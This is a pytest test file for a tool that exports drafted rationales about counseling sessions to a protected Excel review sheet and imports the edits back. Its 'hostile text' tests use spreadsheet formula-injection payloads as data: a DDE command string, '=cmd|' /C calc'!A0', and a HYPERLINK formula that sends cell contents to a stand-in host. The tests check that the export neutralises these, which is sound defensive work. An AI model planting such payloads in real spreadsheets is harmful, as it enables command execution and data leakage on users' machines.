"""The expert sheet: export, edit with openpyxl as a reviewer would, import and validate."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
import zipfile

import pytest
from care.errors import CareInputError
from care.io import write_jsonl
from care.rationales.draft import draft_rationales
from care.rationales.sheet import (
    DIALOGUES,
    OUTPUT_COLUMNS,
    SHEET,
    export_sheet,
    fill_sheet,
    import_edits,
    read_sheet,
)
from care.sessions import load_sessions
from openpyxl import load_workbook

COL = {
    "session_id": "A",
    "item_id": "B",
    "rating": "E",
    "draft": "G",
    "cited_turns": "H",
    "final_rationale": "I",
    "editor_id": "J",
    "dialogue": "K",
}


@pytest.fixture(scope="module")
def exported(tmp_path_factory, instrument, small_corpus):
    """(drafts, sessions, path of the exported sheet)."""
    sessions = load_sessions(small_corpus[0], instrument)
    drafts = draft_rationales(sessions, instrument, "extractive", {}, cache_dir="unused")
    path = tmp_path_factory.mktemp("sheet") / "expert_sheet.xlsx"
    export_sheet(drafts, sessions, instrument, path, editors=["e1", "e2"])
    return drafts, sessions, path


def edited_copy(exported, tmp_path, edit) -> str:
    wb = load_workbook(exported[2])
    edit(wb[SHEET])
    out = tmp_path / "edited.xlsx"
    wb.save(out)
    return out


def test_export_layout_protection_and_links(exported, instrument):
    drafts, sessions, path = exported
    wb = load_workbook(path)
    assert wb.sheetnames == [SHEET, DIALOGUES, "instructions"]
    ws = wb[SHEET]
    assert ws.max_row == len(drafts) + 1
    assert ws.protection.sheet and wb[DIALOGUES].protection.sheet
    for row in (2, ws.max_row):
        assert not ws[f"I{row}"].protection.locked and not ws[f"J{row}"].protection.locked
        for col in "ABCDEFGHK":
            assert ws[f"{col}{row}"].protection.locked
    first = drafts[0]
    assert ws["A2"].value == first["session_id"] and ws["B2"].value == first["item_id"]
    assert ws["D2"].value == instrument.items[first["item_id"]].wording("en")
    assert ws["E2"].value == first["rating"] and ws["G2"].value == first["draft"]
    # final_rationale starts as the draft; the cited turns' text sits beside it
    assert ws["I2"].value == first["draft"]
    from care.prompts import cited_turns

    with_cites = next(n for n, d in enumerate(drafts, start=2) if cited_turns(d["draft"]))
    turn = cited_turns(drafts[with_cites - 2]["draft"])[0]
    session = next(s for s in sessions if s.session_id == drafts[with_cites - 2]["session_id"])
    assert ws[f"H{with_cites}"].value.startswith(f"({turn}) ")
    assert session.turns[turn - 1].text[:40] in ws[f"H{with_cites}"].value
    # the link opens the session's transcript, whose header links back to its rows
    target = ws["K2"].hyperlink.location
    sheet_name, cell = target.split("!")
    assert sheet_name.strip("'") == DIALOGUES
    dialogue = wb[DIALOGUES]
    assert dialogue[cell].value == first["session_id"]
    head_row = dialogue[cell].row
    assert dialogue.cell(head_row, 4).hyperlink.location == f"'{SHEET}'!A2"
    turns = [
        r
        for r in dialogue.iter_rows(min_row=head_row + 1, values_only=True)
        if r[0] == first["session_id"]
    ]
    assert len(turns) == len(sessions[0].turns)
    # the known editors are offered as a drop-down on the editor column
    (validation,) = ws.data_validations.dataValidation
    assert validation.formula1 == '"e1,e2"' and "J2" in str(validation.sqref)
    # each sheet states its size, so a reader need not parse it to learn it
    with zipfile.ZipFile(path) as z:
        head = z.read("xl/worksheets/sheet1.xml")[:2000]
    assert f'<dimension ref="A1:K{len(drafts) + 1}"/>'.encode() in head
    lazy = load_workbook(path, read_only=True)
    assert lazy[DIALOGUES].max_row == 1 + sum(1 + len(s.turns) for s in sessions)


def test_export_is_byte_identical(exported, instrument, tmp_path):
    drafts, sessions, path = exported
    again = tmp_path / "again.xlsx"
    export_sheet(drafts, sessions, instrument, again, editors=["e1", "e2"])
    assert again.read_bytes() == path.read_bytes()


def review(ws):
    """Row 2 rewritten, row 3's draft accepted and signed, the rest left as exported."""
    ws["I2"] = "The counselor set the goal with the client (turn 3). Overall goals were shared."
    ws["J2"] = "e1"
    ws["I3"] = ws["G3"].value
    ws["J3"] = "e2"


def test_round_trip(exported, instrument, tmp_path):
    drafts, _, _ = exported
    sheet = read_sheet(edited_copy(exported, tmp_path, review))
    frame = import_edits(sheet, drafts, instrument, editors=["e1", "e2"])
    assert tuple(frame.columns) == OUTPUT_COLUMNS and len(frame) == len(drafts)
    row2, row3, row4 = (frame.iloc[n] for n in range(3))
    assert row2["final"].startswith("The counselor set the goal") and row2["edited"]
    assert row2["editor_id"] == "e1" and not row2["unedited"]
    assert 0 < row2["edit_distance"] <= 1 and row2["n_chars"] == len(row2["final"])
    assert not row3["edited"] and row3["edit_distance"] == 0 and row3["editor_id"] == "e2"
    assert row4["unedited"] and row4["final"] == drafts[2]["draft"] and not row4["edited"]
    assert frame["edited"].sum() == 1 and frame["unedited"].sum() == len(drafts) - 2
    assert frame["rating"].tolist() == [d["rating"] for d in drafts]


def test_csv_export_of_the_sheet_imports_the_same(exported, instrument, tmp_path):
    drafts, _, _ = exported
    xlsx = edited_copy(exported, tmp_path, review)
    rows = list(load_workbook(xlsx)[SHEET].iter_rows(values_only=True))
    path = tmp_path / "edited.csv"
    with open(path, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["" if v is None else v for v in r] for r in rows])
    from_csv = import_edits(read_sheet(path), drafts, instrument)
    from_xlsx = import_edits(read_sheet(xlsx), drafts, instrument)
    assert from_csv.equals(from_xlsx)


def test_simulated_expert_fills_every_row(exported, instrument, tmp_path):
    drafts, _, path = exported
    finals = {
        (d["session_id"], d["item_id"]): f"Reference {n} (turn 1)." for n, d in enumerate(drafts)
    }
    out = tmp_path / "filled.xlsx"
    assert fill_sheet(path, finals, "e1", out) == len(drafts)
    filled, exported = load_workbook(out), load_workbook(path)
    ws = filled[SHEET]
    assert ws.protection.sheet and not ws["I2"].protection.locked  # still protected, editable
    assert ws["I2"].value == finals[drafts[0]["session_id"], drafts[0]["item_id"]]
    assert ws["J2"].value == "e1" and ws["I2"].fill.fgColor.rgb == "00FFF4CC"
    assert ws["K2"].hyperlink.location == exported[SHEET]["K2"].hyperlink.location
    with zipfile.ZipFile(path) as before, zipfile.ZipFile(out) as after:  # the rest as it was
        for name in ("xl/worksheets/sheet2.xml", "xl/styles.xml"):
            assert before.read(name) == after.read(name)
    frame = import_edits(read_sheet(out), drafts, instrument, editors=["e1"], allow_unedited=False)
    assert frame["edited"].all() and set(frame["editor_id"]) == {"e1"}


def set_cells(**cells):
    def edit(ws):
        for ref, value in cells.items():
            ws[ref] = value

    return edit


def swap_ids(ws):  # row 3 claims row 2's (session, item)
    ws["A3"], ws["B3"] = ws["A2"].value, ws["B2"].value


CASES = {
    "unknown session": (
        set_cells(A2="no-such-session"),
        {},
        2,
        "session_id (column A)",
        "unknown session id",
    ),
    "unknown item": (set_cells(B2="99"), {}, 2, "item_id (column B)", "unknown item id"),
    "duplicate pair": (swap_ids, {}, 3, "item_id (column B)", "appears twice"),
    "missing pair": (
        lambda ws: ws.delete_rows(5),
        {},
        None,
        "session_id (column A)",
        "missing from the sheet",
    ),
    "rating changed": (set_cells(E2=0), {}, 2, "rating (column E)", "rating changed"),
    "rating cleared": (set_cells(E2=None), {}, 2, "rating (column E)", "rating changed"),
    "unedited not allowed": (
        lambda ws: None,  # every row left as exported
        {"allow_unedited": False},
        2,
        "final_rationale (column I)",
        "draft left untouched",
    ),
    "unknown editor": (
        set_cells(I2="Rewritten (turn 2).", J2="mallory"),
        {"editors": ["e1", "e2"]},
        2,
        "editor_id (column J)",
        "unknown editor id 'mallory'",
    ),
    "no editor on an edit": (
        set_cells(I2="Rewritten (turn 2)."),
        {},
        2,
        "editor_id (column J)",
        "needs an editor id",
    ),
    "missing column": (set_cells(I1="final"), {}, 1, "final_rationale", "missing column"),
}


@pytest.mark.parametrize("case", list(CASES))
def test_each_validation_error_names_sheet_row_and_column(exported, instrument, tmp_path, case):
    edit, options, row, field, message = CASES[case]
    drafts, _, _ = exported
    with pytest.raises(CareInputError, match=message) as err:
        import_edits(
            read_sheet(edited_copy(exported, tmp_path, edit)), drafts, instrument, **options
        )
    assert err.value.line == row and err.value.field == field
    assert err.value.where == f"sheet '{SHEET}'"
    assert f"(sheet '{SHEET}')" in str(err.value)


def test_empty_final_with_empty_draft_is_an_error(exported, instrument, tmp_path):
    drafts, sessions, _ = exported
    blank = [dict(d) for d in drafts]
    blank[0]["draft"] = ""
    path = tmp_path / "blank.xlsx"
    export_sheet(blank, sessions, instrument, path)
    with pytest.raises(CareInputError, match="draft is empty too") as err:
        import_edits(read_sheet(path), blank, instrument)
    assert err.value.line == 2


def test_unreadable_inputs(tmp_path, exported):
    bad = tmp_path / "bad.xlsx"
    bad.write_text("not a workbook")
    with pytest.raises(CareInputError, match="cannot read"):
        read_sheet(bad)
    wb = load_workbook(exported[2])
    wb[SHEET].title = "Sheet1"
    renamed = tmp_path / "renamed.xlsx"
    wb.save(renamed)
    with pytest.raises(CareInputError, match="no sheet named 'rationales'"):
        read_sheet(renamed)


def test_cli_import_error_leaves_no_output(exported, instrument, tmp_path):
    drafts, _, _ = exported
    drafts_path = tmp_path / "drafts.jsonl"
    write_jsonl(drafts_path, drafts)
    sheet = edited_copy(exported, tmp_path, set_cells(E7=1 if drafts[5]["rating"] != 1 else 2))
    out = tmp_path / "rationales.parquet"
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "care.cli",
            "rationales",
            "import",
            "--sheet",
            str(sheet),
            "--drafts",
            str(drafts_path),
            "--instrument",
            instrument.path,
            "--out",
            str(out),
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 2
    assert f"(sheet '{SHEET}'):7: field 'rating (column E)': rating changed" in proc.stderr
    assert not out.exists() and not list(tmp_path.glob(".rationales.parquet*"))


def test_control_characters_do_not_break_the_workbook(exported, instrument, tmp_path):
    drafts, sessions, _ = exported
    odd = [dict(d) for d in drafts]
    odd[0]["draft"] = "Bell\x07 and escape\x1b from a model (turn 1)."
    path = tmp_path / "odd.xlsx"
    export_sheet(odd, sessions, instrument, path)
    assert load_workbook(path)[SHEET]["G2"].value == "Bell and escape from a model (turn 1)."


def test_exported_rows_follow_the_sheet_schema(exported):
    import jsonschema
    import yaml
    from care import WORKFLOW_DIR

    schema = yaml.safe_load((WORKFLOW_DIR / "schemas/expert_sheet.schema.yaml").read_text())
    rows = list(load_workbook(exported[2])[SHEET].iter_rows(values_only=True))
    for values in rows[1:]:
        jsonschema.validate(dict(zip(rows[0], values, strict=True)), schema)



def _export_work(exported, instrument, tmp_path, monkeypatch, scale: int) -> tuple[int, int]:
    """(Python calls, reads of a sheet's size) to export the corpus with rows and turns x scale.

    A sheet's ``max_row`` scans all its cells (in C, so a profiler does not see it): read per
    row, it made the export quadratic.
    """
    import cProfile
    import dataclasses
    import pstats

    from openpyxl.worksheet.worksheet import Worksheet

    reads = []
    size = Worksheet.max_row
    monkeypatch.setattr(Worksheet, "max_row", property(lambda ws: reads.append(1) or size.fget(ws)))
    drafts, sessions, _ = exported
    longer = [dataclasses.replace(s, turns=s.turns * scale) for s in sessions]
    profile = cProfile.Profile()
    profile.runcall(export_sheet, drafts * scale, longer, instrument, tmp_path / "x.xlsx")
    return pstats.Stats(profile).total_calls, len(reads)


def test_export_work_grows_linearly(exported, instrument, tmp_path, monkeypatch):
    """Counted, not timed: 4x the rows and turns costs at most 4x the calls, and the number
    of times a sheet is asked for its size does not grow at all."""
    calls, reads = _export_work(exported, instrument, tmp_path, monkeypatch, 1)
    calls4, reads4 = _export_work(exported, instrument, tmp_path, monkeypatch, 4)
    assert calls4 / calls <= 4 and reads4 == reads


# ------------------------------------------------------------------------------ hostile text

FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+1", "-2 (turn 1)",
            "@SUM(1,2)", "'=already quoted", "\t=tab first"]


def formula_cells(path) -> list[str]:
    """Every cell a spreadsheet would compute: ``<f>`` elements in any sheet part."""
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, instrument, small_corpus):
    """A corpus whose ids and turns start like formulas, its drafts (one a formula too), and
    the sheet exported from them: (drafts, sessions, sheet path, sessions path)."""
    import copy

    records = copy.deepcopy(small_corpus[1][:4])
    records[0]["session_id"] = "=cmd|' /C calc'!A0"
    for n, text in enumerate(FORMULAS):
        records[1]["turns"][n]["text"] = text
    root = tmp_path_factory.mktemp("hostile_sheet")
    write_jsonl(root / "sessions.jsonl", records)
    sessions = load_sessions(root / "sessions.jsonl", instrument)
    drafts = draft_rationales(sessions, instrument, "extractive", {}, cache_dir="unused")
    drafts[1]["draft"] = "=1+1 (turn 2)"
    export_sheet(drafts, sessions, instrument, root / "sheet.xlsx")
    return drafts, sessions, root / "sheet.xlsx", root / "sessions.jsonl"


def test_no_cell_is_a_formula_and_the_round_trip_is_lossless(hostile, instrument, tmp_path):
    """Before: ids, turns and drafts starting with '=' were live formulas, and an id that
    became one broke the import ('empty session id')."""
    drafts, sessions, path, _ = hostile
    assert formula_cells(path) == []
    ws = load_workbook(path)[SHEET]
    assert ws["A2"].value == "'=cmd|' /C calc'!A0" and ws["G3"].value == "'=1+1 (turn 2)"
    frame = import_edits(read_sheet(path), drafts, instrument)  # every draft accepted
    assert frame["session_id"].tolist() == sorted(d["session_id"] for d in drafts)
    by_key = {(d["session_id"], d["item_id"]): d["draft"].strip() for d in drafts}
    assert all(by_key[(r.session_id, r.item_id)] == r.final for r in frame.itertuples())
    # a reviewer's (here the simulated expert's) text that starts like a formula comes back
    finals = {(d["session_id"], d["item_id"]): f"{FORMULAS[n % 6]} (turn 1)"
              for n, d in enumerate(drafts)}
    filled = tmp_path / "filled.xlsx"
    fill_sheet(path, finals, "e1", filled)
    assert formula_cells(filled) == []
    frame = import_edits(read_sheet(filled), drafts, instrument)
    assert all(finals[(r.session_id, r.item_id)].strip() == r.final for r in frame.itertuples())


def test_the_dialogue_keeps_formula_text_as_text(hostile):
    _, sessions, path, _ = hostile
    texts = [r[3] for r in load_workbook(path)[DIALOGUES].iter_rows(values_only=True)]
    from care.io import from_cell

    assert [t for t in map(str, texts) if from_cell(t) in FORMULAS] == [
        t if not t.startswith(("=", "+", "-", "@", "'", "\t")) else "'" + t for t in FORMULAS
    ]


def test_human_eval_sheet_cells_are_never_formulas(tmp_path):
    import pandas as pd
    from care.evaluate.human_eval import export_sheet as export_ratings

    sheet = pd.DataFrame({"row_id": ["r0001"], "session_id": ["=s1"], "rationale": [FORMULAS[0]]})
    dialogues = pd.DataFrame({"session_id": ["=s1"], "turn": [1], "text": ["@SUM(1)"]})
    out = tmp_path / "ratings.xlsx"
    export_ratings(out, sheet, dialogues)
    assert formula_cells(out) == []


def test_long_turns_are_cut_saying_where_the_whole_turn_is(exported, instrument, tmp_path, caplog):
    """Before: cut at 32,767 characters (a cell's limit) without a word."""
    import dataclasses

    from care.rationales.sheet import MAX_CELL_CHARS

    drafts, sessions, _ = exported
    first = sessions[0]
    long_turn = dataclasses.replace(first.turns[0], text="long words " * 4000)
    turns = (long_turn, *first.turns[1:])
    changed = [dataclasses.replace(first, turns=turns), *sessions[1:]]
    out = tmp_path / "long.xlsx"
    with caplog.at_level("WARNING"):
        export_sheet(drafts, changed, instrument, out, source="data/sessions.jsonl")
    cells = [r[3] for r in load_workbook(out)[DIALOGUES].iter_rows(values_only=True)]
    (cut,) = [c for c in cells if c and c.startswith("long words")]
    assert len(cut) <= MAX_CELL_CHARS
    assert cut.endswith(f"the whole turn is turns[0] of line {first.line} of data/sessions.jsonl]")
    assert "1 turn(s) longer than a cell's 32,767 characters are cut" in caplog.text


def test_edits_to_any_locked_column_are_reported(exported, instrument, tmp_path, caplog):
    """Before: only the draft column was compared; an edited dimension went unseen."""
    drafts, sessions, path = exported
    with caplog.at_level("WARNING"):
        import_edits(read_sheet(path), drafts, instrument, sessions=sessions)
    assert "locked column" not in caplog.text  # the export as it is: nothing to report
    edited = edited_copy(exported, tmp_path, set_cells(C2="Bond", C5="Bond", D3="Another item",
                                                      F4="Never", H2="(1) made up"))
    caplog.clear()
    with caplog.at_level("WARNING"):
        import_edits(read_sheet(edited), drafts, instrument, sessions=sessions)
    for column, count, first in [("dimension", 2, 2), ("item", 1, 3), ("rating_label", 1, 4),
                                 ("cited_turns", 1, 2)]:
        assert f"the locked column '{column}' was edited on {count} row(s) (first: row {first})" \
            in caplog.text
    assert caplog.text.count("locked column") == 4


def test_a_returned_sheet_with_xml_entities_is_one_line(exported, tmp_path):
    """Before: an ExpatError (ParseError) traceback while the rows were read."""
    bad = tmp_path / "entities.xlsx"
    with zipfile.ZipFile(exported[2]) as src, zipfile.ZipFile(bad, "w") as dst:
        for name in src.namelist():
            data = src.read(name)
            if name == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b'<row r="9999"><c r="A9999" '
                                    b't="inlineStr"><is><t>&lol;</t></is></c></row></sheetData>')
            dst.writestr(name, data)
    with pytest.raises(CareInputError, match="cannot read the workbook: undefined entity") as e:
        read_sheet(bad)
    assert "\n" not in str(e.value)


def test_a_full_disk_during_export_is_one_line(hostile, instrument, tmp_path):
    """A file-size limit (as a full disk) while the workbook is written: one line, exit 1,
    no partial workbook. Before: ``SerialisationError: IO_EFBIG`` with a traceback."""
    import resource

    drafts, _, _, sessions_path = hostile
    write_jsonl(tmp_path / "drafts.jsonl", drafts)
    out = tmp_path / "out/sheet.xlsx"
    limit = 8192  # bytes: the workbook needs more

    def small_files():
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    proc = subprocess.run(
        [sys.executable, "-m", "care.cli", "rationales", "export", "--drafts",
         str(tmp_path / "drafts.jsonl"), "--sessions", str(sessions_path), "--instrument",
         instrument.path, "--out", str(out)],
        capture_output=True, text=True, timeout=120, preexec_fn=small_files,
        env={**os.environ, "TMPDIR": str(tmp_path)},
    )
    assert proc.returncode == 1, proc.stderr[-2000:]
    assert "Traceback" not in proc.stderr
    errors = [line for line in proc.stderr.splitlines() if ": error: " in line]
    assert len(errors) == 1 and ("File too large" in errors[0] or "EFBIG" in errors[0])
    assert not out.exists() and not list(out.parent.glob(".sheet.xlsx*"))
